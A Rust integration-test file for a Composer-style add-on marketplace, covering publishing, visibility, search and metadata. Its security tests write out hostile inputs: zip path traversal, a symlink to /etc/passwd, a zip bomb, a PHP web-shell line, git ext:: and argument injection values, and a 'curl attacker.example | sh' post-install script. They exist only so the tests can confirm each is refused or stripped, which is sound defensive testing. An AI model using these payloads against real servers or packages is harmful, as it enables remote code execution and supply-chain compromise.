//! The marketplace: publishing (hostile zips included), listing and search, visibility in
//! every listing, and the Composer v2 repository files.

use std::io::{Cursor, Write};

use reqwest::StatusCode;
use serde_json::{Value, json};
use sha1::Digest as _;
use zip::write::SimpleFileOptions;

use crate::helpers::{TestApp, header, invalid_fields, refusal};
use crate::market::{dist, manifest, noise, zip_by_hand, zip_of, zip_with_raw_name};

#[tokio::test]
async fn publishing_a_version_creates_the_add_on_with_checksums() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let zip = dist("acme/theme", "harmony-theme");
    let r = app
        .publish(&token, "acme/theme", "1.2.3", zip.clone())
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    assert!(header(&r, "location").ends_with("/packages/acme/theme/versions/1.2.3"));
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["versionNormalized"], "1.2.3.0");
    assert_eq!(v["type"], "harmony-theme");
    let sha1: String = sha1::Sha1::digest(&zip)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(v["shasum"], sha1.as_str());
    assert_eq!(v["sha256"].as_str().unwrap().len(), 64);

    let p = app.json_as("/packages/acme/theme", None, 200).await;
    assert_eq!(p["owner"]["username"], "alice");
    assert_eq!(p["visibility"], "public");
    assert_eq!(p["description"], "acme/theme add-on");
    assert!(
        p.get("hasWebhookSecret").is_none(),
        "only the owner sees it"
    );
    assert_eq!(p["versions"][0]["version"], "1.2.3");

    // The dist downloads byte for byte.
    let dist_url = v["distUrl"].as_str().unwrap();
    let r = app.http.get(dist_url).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(header(&r, "content-type"), "application/zip");
    assert_eq!(r.bytes().await.unwrap().to_vec(), zip);
}

#[tokio::test]
async fn republishing_a_version_is_a_conflict_and_keeps_the_first() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    app.publish_ok(&token, "acme/lib", "library", "1.0.0").await;
    let other = zip_of(&[
        ("composer.json", &manifest("acme/lib", "library", json!({}))),
        ("x", b"changed"),
    ]);
    let r = app.publish(&token, "acme/lib", "1.0.0", other).await;
    let error = refusal(r, StatusCode::CONFLICT, "conflict").await;
    assert_eq!(
        error["message"],
        "acme/lib 1.0.0 is already published; published versions are immutable"
    );
    let p = app.json_as("/packages/acme/lib", None, 200).await;
    assert_eq!(p["versions"].as_array().unwrap().len(), 1);
    // The first upload is what is served.
    let served = app
        .http
        .get(p["versions"][0]["distUrl"].as_str().unwrap())
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    assert_eq!(served.to_vec(), dist("acme/lib", "library"));
}

#[tokio::test]
async fn another_account_cannot_publish_to_an_add_on() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let bob = app.account("bob").await;
    let (ta, tb) = (app.access_token(&alice).await, app.access_token(&bob).await);
    app.publish_ok(&ta, "acme/lib", "library", "1.0.0").await;
    // Under alice's vendor, bob meets the vendor's rule first, which tells nothing about
    // whether the add-on exists (tests/api/registry.rs).
    let r = app
        .publish(&tb, "acme/lib", "1.1.0", dist("acme/lib", "library"))
        .await;
    let error = refusal(r, StatusCode::FORBIDDEN, "vendor_owned").await;
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("the vendor acme belongs to another account"),
        "{error}"
    );
    // Where the vendor is bob's (given to him by an administrator), alice's add-on is still
    // hers.
    let root = app
        .account_with(
            "root",
            true,
            harmony::service::clients::ClientSpec {
                scopes: vec!["read".into(), "write".into(), "admin".into()],
                ..Default::default()
            },
        )
        .await;
    let tr = app.access_token(&root).await;
    let r = app
        .patch_json(
            "/admin/vendors/acme",
            &tr,
            json!({"owner": {"type": "user", "name": "bob"}}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let r = app
        .publish(&tb, "acme/lib", "1.1.0", dist("acme/lib", "library"))
        .await;
    let error = refusal(r, StatusCode::FORBIDDEN, "forbidden").await;
    assert_eq!(error["message"], "acme/lib belongs to another account");
    app.make_private(&ta, "acme/lib").await;
    let r = app
        .publish(&tb, "acme/lib", "1.1.0", dist("acme/lib", "library"))
        .await;
    // A private add-on does not exist for bob.
    refusal(r, StatusCode::NOT_FOUND, "not_found").await;
    let p = app.json_as("/packages/acme/lib", Some(&ta), 200).await;
    assert_eq!(p["versions"].as_array().unwrap().len(), 1, "{p}");
}

#[tokio::test]
async fn publishing_needs_a_write_token_and_a_zip() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let r = app
        .http
        .put(app.url("/packages/acme/lib/versions/1.0.0"))
        .header("Content-Type", "application/zip")
        .body(dist("acme/lib", "library"))
        .send()
        .await
        .unwrap();
    refusal(r, StatusCode::UNAUTHORIZED, "unauthenticated").await;
    let read_only = app.scoped_token(&alice, "read").await;
    let r = app
        .publish(&read_only, "acme/lib", "1.0.0", dist("acme/lib", "library"))
        .await;
    refusal(r, StatusCode::FORBIDDEN, "insufficient_scope").await;
    let r = app
        .http
        .put(app.url("/packages/acme/lib/versions/1.0.0"))
        .header("Authorization", format!("Bearer {token}"))
        .header("Content-Type", "application/json")
        .body("{}")
        .send()
        .await
        .unwrap();
    refusal(
        r,
        StatusCode::UNSUPPORTED_MEDIA_TYPE,
        "unsupported_media_type",
    )
    .await;
    for (name, version, field) in [
        ("Acme/lib", "1.0.0", "name"),
        ("acme/lib", "not-a-version", "version"),
        ("acme/lib", "1.0.0..", "version"),
    ] {
        let r = app
            .publish(&token, name, version, dist("acme/lib", "library"))
            .await;
        let fields = invalid_fields(r).await;
        assert!(fields.contains_key(field), "{name} {version}: {fields:?}");
    }
    // None of them published anything.
    app.json_as("/packages/acme/lib", Some(&token), 404).await;
}

/// Publishes `zip` as acme/lib 1.0.0 and checks the refusal: `422 invalid_archive`, with a
/// message (also the `archive` field's) that says `why`.
async fn refused(app: &TestApp, token: &str, zip: Vec<u8>, what: &str, why: &str) {
    let r = app.publish(token, "acme/lib", "1.0.0", zip).await;
    let error = refusal(r, StatusCode::UNPROCESSABLE_ENTITY, "invalid_archive").await;
    let message = error["message"].as_str().unwrap();
    assert!(
        message.contains(why),
        "{what}: {message:?} does not say {why:?}"
    );
    assert_eq!(error["fields"]["archive"], message, "{what}");
}

#[tokio::test]
async fn hostile_zips_are_refused_and_nothing_is_written() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let good = manifest("acme/lib", "library", json!({}));

    for (placeholder, hostile, what) in [
        ("aa/evil.php", "../evil.php", "traversal"),
        ("a/bb/cc/evil.php", "a/../../evil.php", "nested traversal"),
        ("xetc/cron.d/x", "/etc/cron.d/x", "absolute path"),
        ("Cx/win.ini", "C:/win.ini", "drive letter"),
        ("ax.x/evil.php", "a\\..\\evil.php", "backslashes"),
    ] {
        let zip = zip_with_raw_name(
            &[("composer.json", &good), (placeholder, b"x")],
            placeholder,
            hostile,
        );
        let why = format!("unsafe path in the zip: {hostile:?}");
        refused(&app, &token, zip, what, &why).await;
    }

    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.start_file("composer.json", SimpleFileOptions::default())
        .unwrap();
    w.write_all(&good).unwrap();
    w.add_symlink("link", "/etc/passwd", SimpleFileOptions::default())
        .unwrap();
    refused(
        &app,
        &token,
        w.finish().unwrap().into_inner(),
        "symlink",
        "symbolic links are not allowed: \"link\"",
    )
    .await;

    let zeros = vec![0u8; 8 * 1024 * 1024];
    refused(
        &app,
        &token,
        zip_of(&[("composer.json", &good), ("bomb", &zeros)]),
        "bomb by ratio",
        "\"bomb\" expands 8388608 bytes",
    )
    .await;

    refused(
        &app,
        &token,
        zip_of(&[("README.md", b"no manifest")]),
        "no composer.json",
        "composer.json is missing at the zip root",
    )
    .await;
    refused(
        &app,
        &token,
        zip_of(&[("sub/composer.json", &good)]),
        "composer.json not at the root",
        "composer.json is missing at the zip root",
    )
    .await;
    refused(
        &app,
        &token,
        zip_of(&[("composer.json", b"{not json")]),
        "invalid JSON",
        "composer.json is not valid JSON",
    )
    .await;
    refused(
        &app,
        &token,
        zip_of(&[(
            "composer.json",
            &manifest("acme/other", "library", json!({})),
        )]),
        "name mismatch",
        "composer.json names \"acme/other\", but the URL names \"acme/lib\"",
    )
    .await;
    refused(
        &app,
        &token,
        zip_of(&[(
            "composer.json",
            &manifest("acme/lib", "library", json!({"version": "2.0.0"})),
        )]),
        "version mismatch",
        "composer.json declares version \"2.0.0\", but the URL says 1.0.0",
    )
    .await;
    refused(
        &app,
        &token,
        zip_of(&[(
            "composer.json",
            &manifest("acme/lib", "wordpress-plugin", json!({})),
        )]),
        "unknown type",
        "type \"wordpress-plugin\" is not one of",
    )
    .await;
    refused(
        &app,
        &token,
        b"PK\x03\x04 this is not a zip".to_vec(),
        "garbage",
        "the body is not a readable zip",
    )
    .await;
    refused(
        &app,
        &token,
        zip_with_raw_name(
            &[
                ("composer.json", &good),
                ("dup1.txt", b"1"),
                ("dup2.txt", b"2"),
            ],
            "dup2.txt",
            "dup1.txt",
        ),
        "duplicate entries",
        "duplicate",
    )
    .await;

    assert_eq!(
        app.json_as("/packages/acme/lib", Some(&token), 404).await["error"]["code"],
        "not_found"
    );
    let dists = app.state.config.packages.data_dir.join("dists");
    let files = walk(&dists);
    assert!(files.is_empty(), "nothing written: {files:?}");
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[tokio::test]
async fn too_many_entries_and_too_large_uploads_are_refused() {
    let app = TestApp::spawn_with(|c| {
        c.packages.package_upload_limit = 64 * 1024;
        c.packages.package_max_entries = 5;
    })
    .await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let good = manifest("acme/lib", "library", json!({}));
    let many: Vec<(String, Vec<u8>)> = (0..6).map(|i| (format!("f{i}"), vec![b'x'])).collect();
    let mut entries: Vec<(&str, &[u8])> = vec![("composer.json", &good)];
    entries.extend(many.iter().map(|(n, d)| (n.as_str(), d.as_slice())));
    refused(
        &app,
        &token,
        zip_of(&entries),
        "too many entries",
        "the zip has 7 entries; at most 5 are allowed",
    )
    .await;

    // Incompressible bytes over the upload limit.
    let noise = noise(200_000);
    let r = app
        .publish(
            &token,
            "acme/lib",
            "1.0.0",
            zip_of(&[("composer.json", &good), ("noise", &noise)]),
        )
        .await;
    refusal(r, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large").await;
    // Neither was kept.
    app.json_as("/packages/acme/lib", Some(&token), 404).await;
}

#[tokio::test]
async fn the_upload_limit_is_larger_than_the_json_body_limit() {
    let app = TestApp::spawn_with(|c| c.limits.body_limit = 16 * 1024).await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let noise = noise(100_000);
    let zip = zip_of(&[
        ("composer.json", &manifest("acme/lib", "library", json!({}))),
        ("noise", &noise),
    ]);
    assert!(zip.len() > 16 * 1024);
    let r = app.publish(&token, "acme/lib", "1.0.0", zip).await;
    assert_eq!(r.status(), StatusCode::CREATED);
}

#[tokio::test]
async fn the_marketplace_lists_filters_and_searches() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    app.publish_ok(&token, "acme/blue-theme", "harmony-theme", "1.0.0")
        .await;
    app.publish_ok(&token, "acme/seo", "harmony-extension", "1.0.0")
        .await;
    app.publish_ok(&token, "acme/fr", "harmony-translation", "1.0.0")
        .await;
    app.publish_ok(&token, "acme/util", "library", "1.0.0")
        .await;
    let all = app.json_as("/packages", None, 200).await;
    let names: Vec<&str> = all
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["acme/blue-theme", "acme/fr", "acme/seo", "acme/util"]
    );
    let themes = app.json_as("/packages?type=harmony-theme", None, 200).await;
    assert_eq!(themes.as_array().unwrap().len(), 1);
    let found = app.json_as("/packages?q=SEO", None, 200).await;
    assert_eq!(found[0]["name"], "acme/seo");
    // `%` and `_` are literal in a search.
    assert_eq!(
        app.json_as("/packages?q=%25", None, 200)
            .await
            .as_array()
            .unwrap()
            .len(),
        0
    );
    assert_eq!(
        app.json_as("/packages?q=_", None, 200)
            .await
            .as_array()
            .unwrap()
            .len(),
        0
    );
    let bad = app.json_as("/packages?type=bogus", None, 422).await;
    assert_eq!(bad["error"]["code"], "validation_failed");
    assert!(bad["error"]["fields"]["type"].is_string(), "{bad}");
    let bad = app.json_as("/packages?page=x", None, 400).await;
    assert_eq!(bad["error"]["code"], "invalid_paging");

    let r = app.get("/packages?per_page=2&type=library&q=").await;
    assert!(r.headers().get("link").is_none());
    let r = app.get("/packages?per_page=2").await;
    let link = header(&r, "link");
    assert!(link.contains("page=2&per_page=2>; rel=\"next\""), "{link}");
}

#[tokio::test]
async fn private_add_ons_are_invisible_to_others_in_every_listing() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let bob = app.account("bob").await;
    let (ta, tb) = (app.access_token(&alice).await, app.access_token(&bob).await);
    app.publish_ok(&ta, "acme/secret", "harmony-theme", "1.0.0")
        .await;
    app.publish_ok(&ta, "acme/open", "library", "1.0.0").await;
    app.make_private(&ta, "acme/secret").await;

    for token in [None, Some(tb.as_str())] {
        let list = app.json_as("/packages", token, 200).await;
        assert_eq!(list.as_array().unwrap().len(), 1, "{token:?}");
        assert_eq!(list[0]["name"], "acme/open");
        app.json_as("/packages?q=secret", token, 200)
            .await
            .as_array()
            .unwrap()
            .is_empty()
            .then_some(())
            .unwrap();
        app.json_as("/packages/acme/secret", token, 404).await;
        app.json_as("/packages/acme/secret/versions/1.0.0", token, 404)
            .await;
        app.json_as("/packages/acme/secret/versions/1.0.0/dist", token, 404)
            .await;
        app.json_as("/p2/acme/secret.json", token, 404).await;
        app.json_as("/p2/acme/secret~dev.json", token, 404).await;
        let repo = app.json_as("/packages.json", token, 200).await;
        assert_eq!(repo["available-packages"], json!(["acme/open"]));
    }
    // The owner sees everything.
    let list = app.json_as("/packages", Some(&ta), 200).await;
    assert_eq!(list.as_array().unwrap().len(), 2);
    let p = app.json_as("/packages/acme/secret", Some(&ta), 200).await;
    assert_eq!(p["visibility"], "private");
    assert_eq!(p["hasWebhookSecret"], false);
    let repo = app.json_as("/packages.json", Some(&ta), 200).await;
    assert_eq!(
        repo["available-packages"],
        json!(["acme/open", "acme/secret"])
    );
    app.json_as("/p2/acme/secret.json", Some(&ta), 200).await;

    // Bob may not change it either (and learns nothing).
    let r = app
        .patch_json(
            "/packages/acme/secret",
            &tb,
            json!({"visibility": "public"}),
        )
        .await;
    refusal(r, StatusCode::NOT_FOUND, "not_found").await;
    let r = app
        .patch_json("/packages/acme/open", &tb, json!({"description": "mine"}))
        .await;
    let error = refusal(r, StatusCode::FORBIDDEN, "forbidden").await;
    assert_eq!(
        error["message"],
        "only the owner of acme/open may change it"
    );
    // An invalid token is a 401, not a silent anonymous view.
    app.json_as("/packages", Some("hat_bogus"), 401).await;
}

#[tokio::test]
async fn administrators_see_private_add_ons_with_an_admin_token() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let ta = app.access_token(&alice).await;
    app.publish_ok(&ta, "acme/secret", "library", "1.0.0").await;
    app.make_private(&ta, "acme/secret").await;
    let root = app
        .account_with(
            "root",
            true,
            harmony::service::clients::ClientSpec {
                scopes: vec!["read".into(), "write".into(), "admin".into()],
                ..Default::default()
            },
        )
        .await;
    let tr = app.access_token(&root).await;
    app.json_as("/packages/acme/secret", Some(&tr), 200).await;
    let repo = app.json_as("/packages.json", Some(&tr), 200).await;
    assert_eq!(repo["available-packages"], json!(["acme/secret"]));
}

#[tokio::test]
async fn patching_an_add_on_validates_and_never_shows_the_secret() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let ta = app.access_token(&alice).await;
    app.publish_ok(&ta, "acme/lib", "library", "1.0.0").await;
    let r = app
        .patch_json(
            "/packages/acme/lib",
            &ta,
            json!({"description": "Better", "repositoryUrl": "https://git.example.com/acme/lib.git",
                   "webhookSecret": "s3cret-s3cret"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert!(!text.contains("s3cret"), "{text}");
    let p: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(p["hasWebhookSecret"], true);
    assert_eq!(p["description"], "Better");
    for (bad, field) in [
        (json!({"visibility": "hidden"}), "visibility"),
        (json!({"repositoryUrl": "/srv/git/lib"}), "repositoryUrl"),
        (json!({"repositoryUrl": "-uhttp://x"}), "repositoryUrl"),
        (json!({"repositoryUrl": "ext::sh -c id"}), "repositoryUrl"),
        (json!({"webhookSecret": "short"}), "webhookSecret"),
        (json!({"owner": "bob"}), "owner"),
    ] {
        let r = app.patch_json("/packages/acme/lib", &ta, bad.clone()).await;
        let fields = invalid_fields(r).await;
        assert!(fields.contains_key(field), "{bad}: {fields:?}");
    }
    let r = app
        .http
        .patch(app.url("/packages/acme/lib"))
        .header("Authorization", format!("Bearer {ta}"))
        .header("Content-Type", "application/json")
        .body("{")
        .send()
        .await
        .unwrap();
    refusal(r, StatusCode::BAD_REQUEST, "invalid_json").await;
    // What was refused left the add-on as it was.
    let p = app.json_as("/packages/acme/lib", Some(&ta), 200).await;
    assert_eq!(p["visibility"], "public");
    assert_eq!(p["repositoryUrl"], "https://git.example.com/acme/lib.git");
    assert_eq!(p["hasWebhookSecret"], true);
}

#[tokio::test]
async fn the_composer_repository_serves_metadata_with_absolute_dist_urls() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let ta = app.access_token(&alice).await;
    app.publish_ok(&ta, "acme/lib", "library", "1.0.0").await;
    app.publish_ok(&ta, "acme/lib", "library", "1.1.0").await;
    app.publish_ok(&ta, "acme/lib", "library", "2.0.0-beta1")
        .await;
    app.publish_ok(&ta, "acme/lib", "library", "dev-main").await;
    let r = app.get("/packages.json").await;
    assert_eq!(r.status(), 200);
    let repo: Value = r.json().await.unwrap();
    assert_eq!(repo["metadata-url"], "/p2/%package%.json");
    assert_eq!(repo["available-packages"], json!(["acme/lib"]));

    let r = app.get("/p2/acme/lib.json").await;
    assert_eq!(r.status(), 200);
    let last_modified = header(&r, "last-modified");
    let meta: Value = r.json().await.unwrap();
    let versions = meta["packages"]["acme/lib"].as_array().unwrap();
    let listed: Vec<&str> = versions
        .iter()
        .map(|v| v["version"].as_str().unwrap())
        .collect();
    assert_eq!(listed, ["2.0.0-beta1", "1.1.0", "1.0.0"]);
    let v = &versions[1];
    assert_eq!(v["name"], "acme/lib");
    assert_eq!(v["version_normalized"], "1.1.0.0");
    assert_eq!(v["type"], "library");
    assert_eq!(v["dist"]["type"], "zip");
    assert_eq!(v["dist"]["shasum"].as_str().unwrap().len(), 40);
    let url = v["dist"]["url"].as_str().unwrap();
    assert!(url.starts_with(&app.base), "{url}");
    assert_eq!(app.http.get(url).send().await.unwrap().status(), 200);

    let dev: Value = app.get("/p2/acme/lib~dev.json").await.json().await.unwrap();
    assert_eq!(dev["packages"]["acme/lib"][0]["version"], "dev-main");

    // Revalidation.
    let r = app
        .http
        .get(app.url("/p2/acme/lib.json"))
        .header("If-Modified-Since", &last_modified)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_MODIFIED);
    let r = app
        .http
        .get(app.url("/p2/acme/lib.json"))
        .header("If-Modified-Since", "Thu, 01 Jan 1970 00:00:00 GMT")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);

    for path in [
        "/p2/acme/none.json",
        "/p2/acme/lib",
        "/p2/ACME/lib.json",
        "/p2/acme/../x.json",
    ] {
        assert_eq!(app.get(path).await.status(), 404, "{path}");
    }
}

#[tokio::test]
async fn private_composer_files_accept_bearer_and_basic_credentials() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let ta = app.access_token(&alice).await;
    app.publish_ok(&ta, "acme/secret", "library", "1.0.0").await;
    app.make_private(&ta, "acme/secret").await;
    assert_eq!(app.get("/p2/acme/secret.json").await.status(), 404);
    let r = app
        .http
        .get(app.url("/p2/acme/secret.json"))
        .basic_auth("anything", Some(&ta))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let meta: Value = r.json().await.unwrap();
    let url = meta["packages"]["acme/secret"][0]["dist"]["url"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(app.http.get(&url).send().await.unwrap().status(), 404);
    let r = app.http.get(&url).bearer_auth(&ta).send().await.unwrap();
    assert_eq!(r.status(), 200);
}

#[tokio::test]
async fn another_spelling_of_a_published_version_is_a_conflict() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    app.publish_ok(&token, "acme/lib", "library", "1.0.0").await;
    let r = app
        .publish(&token, "acme/lib", "v1.0", dist("acme/lib", "library"))
        .await;
    let error = refusal(r, StatusCode::CONFLICT, "conflict").await;
    assert!(
        error["message"]
            .as_str()
            .unwrap()
            .contains("is already published"),
        "{error}"
    );
    let files = walk(&app.state.config.packages.data_dir.join("dists"));
    assert_eq!(files.len(), 1, "the refused dist was removed: {files:?}");
}

#[tokio::test]
async fn concurrent_publishes_of_one_version_store_exactly_one() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let requests = (0..4).map(|i| {
        let zip = zip_of(&[
            ("composer.json", &manifest("acme/lib", "library", json!({}))),
            ("n", format!("{i}").as_bytes()),
        ]);
        app.publish(&token, "acme/lib", "1.0.0", zip)
    });
    let statuses: Vec<u16> = futures_statuses(requests).await;
    assert_eq!(
        statuses.iter().filter(|s| **s == 201).count(),
        1,
        "{statuses:?}"
    );
    assert!(
        statuses.iter().all(|s| *s == 201 || *s == 409),
        "{statuses:?}"
    );
    let files = walk(&app.state.config.packages.data_dir.join("dists"));
    assert_eq!(files.len(), 1, "{files:?}");
}

async fn futures_statuses(
    requests: impl Iterator<Item = impl std::future::Future<Output = reqwest::Response>>,
) -> Vec<u16> {
    let handles: Vec<_> = requests.collect();
    let mut out = Vec::new();
    let joined = join_all(handles).await;
    for r in joined {
        out.push(r.status().as_u16());
    }
    out
}

async fn join_all<F: std::future::Future>(futures: Vec<F>) -> Vec<F::Output> {
    let mut pinned: Vec<_> = futures.into_iter().map(Box::pin).collect();
    let mut outputs: Vec<Option<F::Output>> = (0..pinned.len()).map(|_| None).collect();
    std::future::poll_fn(|cx| {
        let mut pending = false;
        for (i, f) in pinned.iter_mut().enumerate() {
            if outputs[i].is_none() {
                match f.as_mut().poll(cx) {
                    std::task::Poll::Ready(v) => outputs[i] = Some(v),
                    std::task::Poll::Pending => pending = true,
                }
            }
        }
        if pending {
            std::task::Poll::Pending
        } else {
            std::task::Poll::Ready(())
        }
    })
    .await;
    outputs.into_iter().map(|o| o.expect("ready")).collect()
}

#[tokio::test]
async fn the_repository_root_revalidates_with_if_modified_since() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    app.publish_ok(&token, "acme/lib", "library", "1.0.0").await;
    let r = app.get("/packages.json").await;
    assert_eq!(header(&r, "vary"), "Authorization");
    let last_modified = header(&r, "last-modified");
    let r = app
        .http
        .get(app.url("/packages.json"))
        .header("If-Modified-Since", &last_modified)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_MODIFIED);
    let r = app
        .http
        .post(app.url("/packages.json"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED);
    assert_eq!(header(&r, "allow"), "GET");
}

#[tokio::test]
async fn malformed_paths_are_4xx_envelopes_never_5xx() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    for path in [
        "/packages/%FF/x",
        "/packages/a/%00",
        "/packages/..%2F..%2Fetc/passwd",
        "/packages/a/b/versions/%2e%2e",
        "/packages/a/b/versions/1.0.0/dist",
        "/p2/%FF/x.json",
        "/p2/a/b~dev~dev.json",
        "/projects/%FF",
        "/projects/00000000-0000-0000-0000-000000000000/addons/a/b",
    ] {
        for method in [
            reqwest::Method::GET,
            reqwest::Method::PUT,
            reqwest::Method::DELETE,
        ] {
            let r = app
                .http
                .request(method.clone(), app.url(path))
                .bearer_auth(&token)
                .header("Content-Type", "application/zip")
                .body(vec![0u8; 10])
                .send()
                .await
                .unwrap();
            let status = r.status();
            assert!(status.is_client_error(), "{method} {path}: {status}");
            let body: Value = r.json().await.unwrap_or(Value::Null);
            assert!(body["error"]["code"].is_string(), "{method} {path}: {body}");
        }
    }
}

#[tokio::test]
async fn dists_are_served_as_declared_never_sniffed() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    app.publish_ok(&token, "acme/lib", "library", "1.0.0").await;
    let r = app.get("/packages/acme/lib/versions/1.0.0/dist").await;
    assert_eq!(r.status(), 200);
    assert_eq!(header(&r, "content-type"), "application/zip");
    assert_eq!(header(&r, "x-content-type-options"), "nosniff");
}

#[tokio::test]
async fn an_entry_whose_local_header_names_another_file_is_refused() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let good = manifest("acme/lib", "library", json!({}));
    let payload: &[u8] = b"<?php system($_GET['c']);";
    // The central directory, which a checker reads, names an innocent file; the local
    // header, which a streaming extractor reads, names a file two folders up.
    let hostile = zip_by_hand(&[
        ("composer.json", "composer.json", &good),
        ("src/innocent.php", "../../evil.php", payload),
    ]);
    let r = app.publish(&token, "acme/lib", "1.0.0", hostile).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "invalid_archive");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("src/innocent.php")
            && message.contains("../../evil.php")
            && message.contains("local header"),
        "{message}"
    );
    assert!(walk(&app.state.config.packages.data_dir.join("dists")).is_empty());
    // The same zip with names that agree is a valid dist.
    let honest = zip_by_hand(&[
        ("composer.json", "composer.json", &good),
        ("src/innocent.php", "src/innocent.php", payload),
    ]);
    let r = app.publish(&token, "acme/lib", "1.0.0", honest).await;
    assert_eq!(r.status(), StatusCode::CREATED);
}

#[tokio::test]
async fn composer_metadata_carries_only_the_keys_harmony_serves() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let token = app.access_token(&alice).await;
    let uploaded = manifest(
        "acme/lib",
        "library",
        json!({
            "source": {"type": "git", "url": "https://attacker.example/acme/lib.git", "reference": "x"},
            "notification-url": "https://attacker.example/notify",
            "dist": {"type": "zip", "url": "https://attacker.example/lib.zip"},
            "scripts": {"post-install-cmd": "curl attacker.example | sh"},
            "repositories": [{"type": "vcs", "url": "https://attacker.example"}],
            "config": {"secure-http": false},
            "time": "2000-01-01T00:00:00+00:00",
            "abandoned": "attacker/lib",
            "require": {"php": ">=8.1"},
            "suggest": {"acme/extra": "for more"},
            "autoload": {"psr-4": {"Acme\\Lib\\": "src/"}},
            "license": "MIT",
            "keywords": ["acme"],
            "authors": [{"name": "Alice"}],
            "support": {"issues": "https://example.com/issues"},
            "homepage": "https://example.com",
            "extra": {"harmony": {"priority": 1}},
            "bin": ["bin/acme"],
        }),
    );
    let zip = zip_of(&[("composer.json", &uploaded), ("src/Lib.php", b"<?php")]);
    let r = app.publish(&token, "acme/lib", "1.0.0", zip).await;
    assert_eq!(r.status(), StatusCode::CREATED);
    let meta = app.json_as("/p2/acme/lib.json", None, 200).await;
    let entry = &meta["packages"]["acme/lib"][0];
    let mut keys: Vec<&str> = entry
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    keys.sort_unstable();
    assert_eq!(
        keys,
        [
            "authors",
            "autoload",
            "bin",
            "description",
            "dist",
            "extra",
            "homepage",
            "keywords",
            "license",
            "name",
            "require",
            "suggest",
            "support",
            "time",
            "type",
            "version",
            "version_normalized",
        ]
    );
    let dist_url = entry["dist"]["url"].as_str().unwrap();
    assert!(dist_url.starts_with(&app.base), "{dist_url}");
    assert_ne!(entry["time"], "2000-01-01T00:00:00+00:00");

    // A served key must have the shape Composer expects.
    let bad = manifest("acme/lib", "library", json!({"autoload": "src/"}));
    let r = app
        .publish(
            &token,
            "acme/lib",
            "1.0.1",
            zip_of(&[("composer.json", &bad)]),
        )
        .await;
    let error = refusal(r, StatusCode::UNPROCESSABLE_ENTITY, "invalid_archive").await;
    assert_eq!(error["message"], "composer.json autoload must be an object");
}

/// `GET path` with optional bearer token and extra headers.
async fn get_as(
    app: &TestApp,
    path: &str,
    token: Option<&str>,
    headers: &[(&str, &str)],
) -> reqwest::Response {
    let mut request = app.http.get(app.url(path));
    if let Some(t) = token {
        request = request.bearer_auth(t);
    }
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    request.send().await.unwrap()
}

#[tokio::test]
async fn composer_validators_differ_between_views_and_a_304_needs_the_exact_document() {
    let app = TestApp::spawn().await;
    let alice = app.account("alice").await;
    let ta = app.access_token(&alice).await;
    app.publish_ok(&ta, "acme/open", "library", "1.0.0").await;
    app.publish_ok(&ta, "acme/secret", "library", "1.0.0").await;
    app.make_private(&ta, "acme/secret").await;

    let anonymous = get_as(&app, "/packages.json", None, &[]).await;
    let owner = get_as(&app, "/packages.json", Some(&ta), &[]).await;
    for r in [&anonymous, &owner] {
        assert_eq!(r.status(), 200);
        assert_eq!(header(r, "vary"), "Authorization");
    }
    let (lm_a, etag_a) = (
        header(&anonymous, "last-modified"),
        header(&anonymous, "etag"),
    );
